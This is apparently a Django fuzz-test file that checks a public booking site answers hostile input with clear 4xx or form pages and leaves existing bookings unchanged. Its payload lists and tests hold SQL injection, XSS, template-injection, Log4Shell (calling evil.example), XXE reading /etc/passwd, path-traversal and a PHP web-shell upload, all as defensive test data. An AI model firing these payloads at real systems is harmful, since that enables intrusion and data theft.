"""Bad input never breaks the public site.

Every public form and URL is sent random and hostile input: very long strings, control
characters, NUL bytes, invalid UTF-8 and lone surrogates as raw bytes, SQL and script
payloads, look-alike letters, emoji and right-to-left marks, duplicated and countless
fields, the wrong method, the wrong content type, no CSRF token. The answer is never a
500: it is the form again with the GOV.UK error summary, a booking, or one of our own
4xx pages, each recognised by what it says. A booking made before the fuzzing is exactly
as it was afterwards.
"""

import os
from datetime import timedelta
from types import SimpleNamespace
from urllib.parse import quote, urlencode

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bookyourplace.bookings import services
from bookyourplace.bookings.links import manage_token
from bookyourplace.bookings.models import Booking
from bookyourplace.core.testing import booking_form_data, text_of
from bookyourplace.notifications.models import Email

pytestmark = pytest.mark.django_db

# Sized to keep the file well under a minute per database; BYP_FUZZ_SCALE=10 searches longer.
SCALE = int(os.environ.get("BYP_FUZZ_SCALE", "1"))
FUZZ = settings(
    max_examples=60 * SCALE,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# What each of our own pages says, so an answer is recognised by its words, not its status.
FORM_ERROR = "There is a problem"
BAD_REQUEST = "Sorry, we could not understand that request"
FORM_EXPIRED = "Your form expired"
NOT_FOUND = "Page not found"
CANNOT_BOOK = "You cannot book a place on"

FIELDS = [
    "first_name",
    "last_name",
    "email",
    "organisation",
    "sector",
    "job_title",
    "line_manager_email",
    "access_needs",
    "consent",
    "waiting_list",
    "csrfmiddlewaretoken",
]

SCRIPT = "<script>alert('booked')</script>"
IMG = '"><img src=x onerror=alert(1)>'
HOSTILE = [
    "a" * 100_000,
    "😀" * 100_000,
    "\x00",
    "Sam\x00Patel",
    "\x00" * 64,
    "".join(chr(c) for c in range(1, 32)),
    "\x7f\x80\x85\x9f",
    "' OR '1'='1",
    "'; DROP TABLE bookings_booking; --",
    "1) UNION SELECT manage_token_hash FROM bookings_booking --",
    "sam@nhs.net' --",
    SCRIPT,
    IMG,
    "javascript:alert(1)",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "ѕаm.раtеl@nhs.net",  # Cyrillic look-alikes
    "ｓａｍ＠ｎｈｓ．ｎｅｔ",  # full-width
    "sam@nhs.net\u200b",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "\u202egnp.exe\u202c",
    "\u200f\u200e\u061c",
    "\ufeffSam",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    "\ud7ff\ue000\uffff\U0010ffff",
    "",
    " ",
    "\t\r\n",
    "yes",
    "no",
    "0",
    "-1",
    "99999999999999999999999999",
    "NaN",
    "null",
    "[]",
    "{}",
]
# Sent as bytes, because a str cannot hold them: invalid UTF-8, encoded surrogates, broken escapes.
RAW_BODIES = [
    b"first_name=\xff\xfe&last_name=\xc0\xaf&email=sam\xe9@nhs.net&consent=yes&sector=health",
    b"first_name=\xed\xa0\x80&last_name=\xed\xbf\xbf&organisation=\xf4\x90\x80\x80&consent=yes",
    b"first_name=%ED%A0%80&last_name=%FF%FE&email=%C0%80%40nhs.net&sector=%00&consent=%00",
    b"first_name=%&last_name=%%&email=%zz&sector=%u0041&consent=%",
    b"=&=&&==&&&",
    b"first_name",
    b"first_name=Sam;last_name=Patel",
    b"\x00\x00\x00\x00",
    b"\xff" * 1000,
    b"waiting_list=%00yes&waiting_list=YES&waiting_list=yes%00",
]


def short_id(value) -> str:
    """A readable test id for a value that may be 100,000 characters long."""
    text = ascii(value)
    return text if len(text) <= 40 else f"{text[:30]}...({len(value)})"


# --- The site and the booking that must survive ----------------------------------------------


@pytest.fixture
def site(programme, make_session, attendee_details):
    """An open session, a full one whose only place is offered to the next person waiting,
    and a booking made before any of the fuzzing (the bystander), which must survive it."""
    open_session = make_session(title="Open session", capacity=500)
    full_session = make_session(title="Full session", capacity=1)
    holder = services.book_place(session_id=full_session.pk, attendee=attendee_details("holder@coventry.gov.uk"))
    offered = services.book_place(
        session_id=full_session.pk, attendee=attendee_details("next@coventry.gov.uk"), join_waiting_list=True
    )
    services.cancel_booking(booking_id=holder.pk)
    offered.refresh_from_db()
    assert offered.is_offered
    bystander = services.book_place(
        session_id=open_session.pk, attendee=attendee_details("bystander@coventry.gov.uk", first_name="Bea")
    )

    return SimpleNamespace(
        programme=programme,
        open_session=open_session,
        full_session=full_session,
        offered=offered,
        offered_token=manage_token(offered),
        bystander=bystander,
        bystander_token=manage_token(bystander),
        bystander_row=Booking.objects.filter(pk=bystander.pk).values().get(),
        bystander_emails=Email.objects.filter(booking=bystander).count(),
    )


def assert_bystander_untouched(site):
    assert Booking.objects.filter(pk=site.bystander.pk).values().get() == site.bystander_row
    assert Email.objects.filter(booking=site.bystander).count() == site.bystander_emails
    assert Booking.objects.filter(email="bystander@coventry.gov.uk").count() == 1


def book_path(session):
    return reverse("public:book", kwargs={"programme_slug": session.programme.slug, "session_id": session.pk})


def confirmed_path(session):
    return reverse(
        "public:booking_confirmed", kwargs={"programme_slug": session.programme.slug, "session_id": session.pk}
    )


def public_get_paths(site):
    session = site.open_session
    token = site.bystander_token
    return [
        "/",
        "/privacy/",
        "/accessibility/",
        site.programme.get_absolute_url(),
        session.get_absolute_url(),
        book_path(session),
        confirmed_path(session),
        f"/booking/{token}/",
        f"/booking/{token}/calendar.ics",
        f"/booking/{token}/cancel/",
        f"/brand/{site.programme.organiser.slug}.css",
    ]


# --- What a clear answer is -----------------------------------------------------------------


def assert_our_page(response, words):
    assert response.status_code < 500
    page = text_of(response)
    assert words in page, (response.status_code, page[:300])
    assert "Traceback" not in page and "Exception" not in page


def assert_clear_answer_to_booking(response, session, sent=()):
    """A booking form answers with the form and its error summary, the confirmation (a
    redirect to "check your email", whether or not the address had booked), 'you cannot
    book', or one of our 4xx pages."""
    status = response.status_code
    assert status < 500, status
    if status == 302:
        assert response["Location"] == confirmed_path(session)
        return
    page = text_of(response)
    expected = {200: (FORM_ERROR,), 400: (BAD_REQUEST,), 409: (CANNOT_BOOK,)}[status]
    assert any(words in page for words in expected), (status, page[:300])
    if FORM_ERROR in page:
        # The form is shown again, every problem listed above it.
        assert "govuk-error-summary" in response.content.decode()
        assert "<form" in response.content.decode()
    for payload in (SCRIPT, IMG):
        if any(payload in value for value in sent):
            assert payload.encode() not in response.content, "hostile markup came back unescaped"


# --- Strategies -----------------------------------------------------------------------------

# Any text, including control characters and NUL (surrogates cannot be sent as text: see RAW_BODIES).
any_text = st.text(st.characters(codec="utf-8"), max_size=300)
hostile_value = st.one_of(
    st.sampled_from([h for h in HOSTILE if len(h) < 1000]),
    any_text,
    st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp", "Mn", "So"]), max_size=40),
    st.sampled_from(["health", "schools", "other", "yes", "on", "true", "sam.patel@nhs.net"]),
)
field_value = hostile_value | st.lists(hostile_value, min_size=2, max_size=4)  # lists: duplicated fields


@st.composite
def booking_posts(draw):
    """Form fields as pairs (so a name can repeat): sometimes a valid form with a few fields
    spoiled, sometimes nothing but noise; plus stray fields."""
    data = booking_form_data(email=f"{draw(st.integers(0, 10**6))}@nhs.net") if draw(st.booleans()) else {}
    for name in draw(st.lists(st.sampled_from(FIELDS), unique=True, max_size=len(FIELDS))):
        data[name] = draw(field_value)
    extra = draw(st.dictionaries(st.text(st.characters(codec="utf-8"), max_size=30), hostile_value, max_size=5))
    pairs = []
    for name, value in [*data.items(), *extra.items()]:
        pairs.extend((name, v) for v in (value if isinstance(value, list) else [value]))
    return pairs


def encoded(pairs) -> bytes:
    return urlencode(pairs).encode()


# --- The booking form -----------------------------------------------------------------------


@settings(FUZZ)
@given(pairs=booking_posts(), full=st.booleans())
def test_booking_form_answers_any_urlencoded_post_clearly(client, site, pairs, full):
    session = site.full_session if full else site.open_session

    response = client.generic(
        "POST", book_path(session), data=encoded(pairs), content_type="application/x-www-form-urlencoded"
    )

    assert_clear_answer_to_booking(response, session, sent=[v for _, v in pairs])
    assert_bystander_untouched(site)


@settings(FUZZ, max_examples=25 * SCALE)
@given(pairs=booking_posts())
def test_booking_form_answers_any_multipart_post_clearly(client, site, pairs):
    data = {}
    for name, value in pairs:
        data.setdefault(name, []).append(value)

    response = client.post(book_path(site.open_session), data)

    assert_clear_answer_to_booking(response, site.open_session, sent=[v for _, v in pairs])
    assert_bystander_untouched(site)


@settings(FUZZ, max_examples=30 * SCALE)
@given(body=st.binary(max_size=2000) | st.sampled_from(RAW_BODIES))
def test_booking_form_answers_any_raw_bytes_clearly(client, site, body):
    response = client.generic(
        "POST", book_path(site.open_session), data=body, content_type="application/x-www-form-urlencoded"
    )

    assert_clear_answer_to_booking(response, site.open_session)
    assert_bystander_untouched(site)


def test_booking_form_answers_each_hostile_value_clearly(client, site, subtests):
    # Each value in every field at once (every field's check sees it), then alone in the
    # fields that can carry it through to a booking (the others valid).
    for value in HOSTILE:
        with subtests.test(value=short_id(value)):
            everywhere = client.post(book_path(site.open_session), dict.fromkeys(FIELDS, value))
            assert_clear_answer_to_booking(everywhere, site.open_session, sent=[value])
            for field in ("first_name", "email", "access_needs", "waiting_list"):
                response = client.post(book_path(site.open_session), booking_form_data(**{field: value}))
                assert_clear_answer_to_booking(response, site.open_session, sent=[value])
    assert_bystander_untouched(site)


def test_booking_form_answers_invalid_utf8_with_the_error_summary(client, site, subtests):
    for body in RAW_BODIES:
        with subtests.test(body=short_id(body)):
            response = client.generic(
                "POST", book_path(site.open_session), data=body, content_type="application/x-www-form-urlencoded"
            )

            assert response.status_code == 200
            assert_our_page(response, FORM_ERROR)
    assert_bystander_untouched(site)


def test_booking_form_answers_far_too_much_data_with_our_bad_request_page(client, site):
    everything_huge = dict.fromkeys(FIELDS, "😀" * 100000)  # about 12 MB once encoded

    response = client.post(book_path(site.open_session), everything_huge)

    assert response.status_code == 400
    assert_our_page(response, BAD_REQUEST)
    assert_bystander_untouched(site)


def test_booking_form_answers_thousands_of_fields_with_our_bad_request_page(client, site):
    for count in (5_000, 50_000):
        body = "&".join(f"field{i}=x" for i in range(count)).encode()

        response = client.generic(
            "POST", book_path(site.open_session), data=body, content_type="application/x-www-form-urlencoded"
        )

        assert response.status_code == 400
        assert_our_page(response, BAD_REQUEST)
    assert_bystander_untouched(site)


def test_booking_form_takes_one_value_of_a_duplicated_field_and_books_once(client, site):
    pairs = [
        *booking_form_data(email="dup@nhs.net").items(),
        ("email", "dup@nhs.net"),
        ("email", "DUP@nhs.net "),
        ("sector", "police"),
    ]

    response = client.generic(
        "POST", book_path(site.open_session), data=encoded(pairs), content_type="application/x-www-form-urlencoded"
    )

    assert response.status_code == 302
    assert Booking.objects.filter(email="dup@nhs.net").count() == 1
    assert_bystander_untouched(site)


def test_booking_form_with_nearly_a_thousand_stray_fields_still_books(client, site):
    pairs = [*booking_form_data(email="stray@nhs.net").items(), *((f"stray{i}", "x" * 10) for i in range(900))]

    response = client.generic(
        "POST", book_path(site.open_session), data=encoded(pairs), content_type="application/x-www-form-urlencoded"
    )

    assert response.status_code == 302
    assert Booking.objects.filter(email="stray@nhs.net").count() == 1


WRONG_CONTENT = [
    ("application/json", b'{"first_name": "Sam", "email": "sam@nhs.net", "consent": true}'),
    ("application/json", b"{not json"),
    ("text/plain", b"first_name=Sam&last_name=Patel"),
    ("application/xml", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
    ("multipart/form-data", b"first_name=Sam"),  # no boundary
    ("multipart/form-data; boundary=xyz", b"--xyz\r\nContent-Disposition: form-data\r\n\r\nSam\r\n--xyz--"),
    ("multipart/form-data; boundary=xyz", b'--xyz\r\nContent-Disposition: form-data; name="first_name"\r\n\r\nSam'),
    ("multipart/form-data; boundary=" + "x" * 5000, b"--" + b"x" * 5000),
    ("application/x-www-form-urlencoded; charset=utf-16", "first_name=Sam".encode("utf-16")),
    ("application/x-www-form-urlencoded; charset=no-such-charset", b"first_name=Sam"),
    ("", b"first_name=Sam"),
]


def test_booking_form_answers_the_wrong_content_type_clearly(client, site, subtests):
    for content_type, body in WRONG_CONTENT:
        with subtests.test(content_type=short_id(content_type), body=short_id(body)):
            response = client.generic("POST", book_path(site.open_session), data=body, content_type=content_type)

            assert_clear_answer_to_booking(response, site.open_session)
            assert response.status_code in (200, 400)
    assert_bystander_untouched(site)


def test_booking_form_ignores_uploaded_files(client, site):
    upload = SimpleUploadedFile("evil.php", b"<?php system($_GET['c']); ?>", content_type="application/x-php")

    response = client.post(book_path(site.open_session), {**booking_form_data(), "first_name": upload})

    assert response.status_code == 200
    assert_our_page(response, "Enter your first name")


def test_garbage_in_waiting_list_never_queues_anyone_by_mistake(client, site, subtests):
    # A full session only queues someone whose form said "yes"; an open one books them.
    for number, garbage in enumerate(["", "no", "YES", "yes ", "\x00", "yes\x00", "1", "true", "😀", "y" * 100_000]):
        with subtests.test(garbage=short_id(garbage)):
            full = client.post(
                book_path(site.full_session), {**booking_form_data(email=f"w{number}@nhs.net"), "waiting_list": garbage}
            )
            open_ = client.post(
                book_path(site.open_session), {**booking_form_data(email=f"o{number}@nhs.net"), "waiting_list": garbage}
            )

            assert full.status_code == 409
            assert_our_page(full, "Sorry, this session is fully booked.")
            assert not Booking.objects.filter(email=f"w{number}@nhs.net").exists()
            assert open_.status_code == 302
            assert Booking.objects.get(email=f"o{number}@nhs.net").status == Booking.Status.CONFIRMED


def test_hostile_details_that_pass_the_form_are_shown_and_sent_safely(client, site, run_worker):
    response = client.post(
        book_path(site.open_session),
        booking_form_data(
            # (Line breaks and control characters in names are refused at the form: below.)
            first_name='Bea "O\'Brien" 👩‍👩‍👧‍👦 END:VEVENT BEGIN:VEVENT',
            last_name=SCRIPT + ";ROLE=CHAIR:mailto:evil@example.org",
            organisation=IMG,
            job_title="'; DROP TABLE bookings_booking; --",
            access_needs="\r\nEND:VCALENDAR\r\n",
            email="nasty@nhs.net",
        ),
        follow=True,
    )

    assert response.status_code == 200
    assert SCRIPT.encode() not in response.content and IMG.encode() not in response.content
    booking = Booking.objects.get(email="nasty@nhs.net")
    token = manage_token(booking)
    for path in (f"/booking/{token}/", f"/booking/{token}/cancel/"):
        page = client.get(path)
        assert page.status_code == 200
        assert SCRIPT.encode() not in page.content and IMG.encode() not in page.content
    invite = client.get(f"/booking/{token}/calendar.ics")
    assert invite.status_code == 200
    lines = invite.content.splitlines()
    assert lines.count(b"BEGIN:VEVENT") == 1 and lines.count(b"END:VEVENT") == 1 and lines.count(b"END:VCALENDAR") == 1
    assert b"evil@example.org;" not in invite.content.replace(b"\r\n ", b"")
    run_worker()
    assert any(message.to == ["nasty@nhs.net"] for message in mail.outbox)
    assert_bystander_untouched(site)


def test_control_characters_in_names_are_refused_at_the_form(client, site, subtests):
    # Issue 10, point 5: they broke the line manager's copy's headers and could forge
    # lines of a calendar invite.
    for field in ("first_name", "last_name", "organisation", "job_title"):
        for value in ("\u202eBea\u200f", "Bea\x01\x7f", "Bea\r\nEND:VEVENT\r\nBEGIN:VEVENT", "Bea\u2029"):
            with subtests.test(field=field, value=short_id(value)):
                response = client.post(
                    book_path(site.open_session), booking_form_data(**{field: value}, email="nasty@nhs.net")
                )

                assert response.status_code == 200
                assert_our_page(response, "must not contain line breaks or special characters")
                assert not Booking.objects.filter(email="nasty@nhs.net").exists()
    assert_bystander_untouched(site)


# --- CSRF -----------------------------------------------------------------------------------


def test_posts_without_a_good_csrf_token_get_the_form_expired_page_and_change_nothing(site, subtests):
    before = Booking.objects.count()
    for token in (None, "", "x" * 64, "\x00", SCRIPT):
        with subtests.test(token=short_id(token)):
            browser = Client(enforce_csrf_checks=True)
            extra = {} if token is None else {"csrfmiddlewaretoken": token}
            if token:
                browser.cookies["csrftoken"] = "y" * 32

            answers = [
                browser.post(book_path(site.open_session), {**booking_form_data(email="csrf@nhs.net"), **extra}),
                browser.post(f"/booking/{site.bystander_token}/cancel/", extra),
                browser.post(f"/booking/{site.offered_token}/accept/", extra),
            ]

            for response in answers:
                assert response.status_code == 403
                assert_our_page(response, FORM_EXPIRED)
    assert Booking.objects.count() == before
    site.offered.refresh_from_db()
    assert site.offered.is_offered
    assert_bystander_untouched(site)


# --- Methods --------------------------------------------------------------------------------


def test_wrong_methods_get_405_and_a_page_that_says_so(client, site, subtests):
    for method in ("PUT", "DELETE", "PATCH"):
        for path in [*public_get_paths(site), f"/booking/{site.offered_token}/accept/"]:
            with subtests.test(method=method, path=path):
                response = client.generic(
                    method, path, data=encoded(booking_form_data()), content_type="application/x-www-form-urlencoded"
                )

                assert response.status_code == 405
                assert response["Allow"] and method not in response["Allow"]
                assert_our_page(response, BAD_REQUEST)
    assert_bystander_untouched(site)
    site.offered.refresh_from_db()
    assert site.offered.is_offered


def test_accepting_an_offer_by_get_is_refused_and_changes_nothing(client, site):
    response = client.get(f"/booking/{site.offered_token}/accept/")

    assert response.status_code == 405
    assert_our_page(response, BAD_REQUEST)
    site.offered.refresh_from_db()
    assert site.offered.is_offered


# --- GET pages, query strings and odd addresses ---------------------------------------------


@settings(FUZZ, max_examples=20 * SCALE)
@given(query=st.binary(max_size=500) | st.sampled_from([h.encode() for h in HOSTILE if len(h) < 1000]))
def test_every_public_page_ignores_any_query_string(client, site, query):
    for path in public_get_paths(site):
        response = client.get(path, QUERY_STRING=query.decode("latin-1"))

        assert response.status_code in (200, 302), path
        if response.status_code == 302:
            assert response["Location"] in (site.open_session.get_absolute_url(), f"/booking/{site.bystander_token}/")
    assert_bystander_untouched(site)


@settings(FUZZ, max_examples=30 * SCALE)
@given(token=any_text | st.from_regex(r"[A-Za-z0-9_-]{32}", fullmatch=True) | st.sampled_from(HOSTILE[2:]))
def test_manage_links_answer_any_token_with_our_not_found_page(client, site, token):
    quoted = quote(token, safe="")
    for suffix in ("", "calendar.ics", "cancel/"):
        response = client.get(f"/booking/{quoted}/{suffix}")

        assert response.status_code == 404
        assert_our_page(response, NOT_FOUND)
    for suffix in ("cancel/", "accept/"):
        response = client.post(f"/booking/{quoted}/{suffix}", {"confirm": token})

        assert response.status_code == 404
        assert_our_page(response, NOT_FOUND)
    assert_bystander_untouched(site)


ODD_MANAGE_ADDRESSES = [
    "/booking/%00/",
    "/booking/%FF%FE/",
    "/booking/%ED%A0%80/calendar.ics",
    "/booking/..%2F..%2Fetc%2Fpasswd/",
    "/booking/" + "A" * 32 + "%00/",
    "/booking/" + "A" * 100_000 + "/",
    "/booking/%E2%80%AE" + "A" * 31 + "/cancel/",
]


def test_odd_manage_addresses_get_our_not_found_page(client, site, subtests):
    for path in ODD_MANAGE_ADDRESSES:
        with subtests.test(path=short_id(path)):
            response = client.get(path)

            assert response.status_code == 404
            assert_our_page(response, NOT_FOUND)


@settings(FUZZ, max_examples=20 * SCALE)
@given(pairs=booking_posts())
def test_cancel_and_accept_answer_any_body_with_the_manage_page_and_a_message(client, site, pairs):
    for suffix in ("accept/", "cancel/"):
        response = client.generic(
            "POST",
            f"/booking/{site.offered_token}/{suffix}",
            data=encoded(pairs),
            content_type="application/x-www-form-urlencoded",
        )

        assert response.status_code == 302
        assert response["Location"] == f"/booking/{site.offered_token}/"
    page = client.get(f"/booking/{site.offered_token}/")
    assert page.status_code == 200
    assert_our_page(page, site.offered.reference)
    assert_bystander_untouched(site)


def post_raw_and_follow(client, path, body):
    response = client.generic("POST", path, data=body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 302
    return client.get(response["Location"])


def test_cancel_and_accept_answer_raw_bytes_with_a_clear_message(client, site):
    manage = f"/booking/{site.offered_token}/"
    answers = [text_of(post_raw_and_follow(client, manage + "accept/", body)) for body in RAW_BODIES]

    assert "Your place is confirmed" in answers[0]
    assert all("This offer has run out or has already been answered." in page for page in answers[1:])
    assert "Your booking has been cancelled" in text_of(post_raw_and_follow(client, manage + "cancel/", RAW_BODIES[1]))
    assert_bystander_untouched(site)


@settings(FUZZ, max_examples=30 * SCALE)
@given(slug=any_text | st.sampled_from(HOSTILE[2:]) | st.from_regex(r"[-a-zA-Z0-9_]{1,80}", fullmatch=True))
def test_brand_stylesheet_answers_any_slug_with_css_or_our_not_found_page(client, site, slug):
    response = client.get(f"/brand/{quote(slug, safe='')}.css")

    if response.status_code == 200:
        assert response["Content-Type"] == "text/css"
        assert response.content.startswith(b":root{--byp-brand-colour:#")
    else:
        assert response.status_code == 404
        assert_our_page(response, NOT_FOUND)


@settings(FUZZ, max_examples=20 * SCALE)
@given(
    slug=st.from_regex(r"[-a-zA-Z0-9_]{1,100}", fullmatch=True),
    session_id=st.integers(min_value=0, max_value=10**30),
)
def test_programme_and_session_addresses_answer_any_number_with_our_not_found_page(client, site, slug, session_id):
    for path in (
        f"/programmes/{slug}/",
        f"/programmes/{site.programme.slug}/sessions/{session_id}/",
        f"/programmes/{site.programme.slug}/sessions/{session_id}/book/",
        f"/programmes/{slug}/sessions/{site.open_session.pk}/",
    ):
        response = client.get(path)
        if response.status_code == 404:
            assert_our_page(response, NOT_FOUND)
        else:
            assert response.status_code == 200
    response = client.post(f"/programmes/{site.programme.slug}/sessions/{session_id}/book/", booking_form_data())
    if response.status_code == 404:
        assert_our_page(response, NOT_FOUND)
    else:  # the number happened to be one of the sessions
        assert response.status_code in (200, 302, 409)


def test_a_closed_session_answers_any_post_with_booking_closed(client, site, make_session):
    closed = make_session(title="Closed session", booking_closes_at=timezone.now() - timedelta(minutes=1))

    for value in HOSTILE[:12]:
        response = client.post(book_path(closed), booking_form_data(first_name=value))

        assert response.status_code == 409
        assert_our_page(response, CANNOT_BOOK)
    assert not closed.bookings.exists()
